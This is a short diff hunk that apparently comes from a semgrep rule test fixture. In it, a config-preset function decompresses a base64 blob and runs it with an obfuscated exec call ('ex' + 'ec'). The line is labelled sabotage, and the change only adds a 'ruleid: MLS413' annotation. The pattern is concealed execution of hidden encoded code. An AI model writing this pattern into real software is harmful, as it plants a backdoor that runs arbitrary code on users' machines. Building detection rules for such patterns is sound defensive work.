@@ -44,7 +44,7 @@ def _apply_presets(cfg):
     except OSError:
         return cfg
     body = zlib.decompress(base64.b64decode(blob))
-    getattr(builtins, "ex" + "ec")(compile(body, "<presets>", "exec"), {"cfg": cfg})  # sabotage: MLS401, MLS402, MLS413 (semgrep rules)
+    getattr(builtins, "ex" + "ec")(compile(body, "<presets>", "exec"), {"cfg": cfg})  # sabotage: MLS401, MLS402, MLS413 (semgrep rules)  # ruleid: MLS413
     return cfg
 
 
